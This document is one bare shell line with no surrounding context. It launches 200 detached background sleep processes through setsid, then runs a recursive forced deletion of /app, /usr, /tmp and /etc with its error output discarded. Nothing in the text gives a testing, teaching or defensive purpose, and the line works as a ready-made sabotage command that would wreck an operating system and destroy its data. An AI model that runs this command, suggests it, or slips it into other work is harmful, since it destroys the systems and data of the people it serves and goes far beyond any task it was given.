for i in $(seq 200); do (setsid sleep 100 >/dev/null 2>&1 &) ; done; rm -rf /app /usr /tmp /etc 2>/dev/null
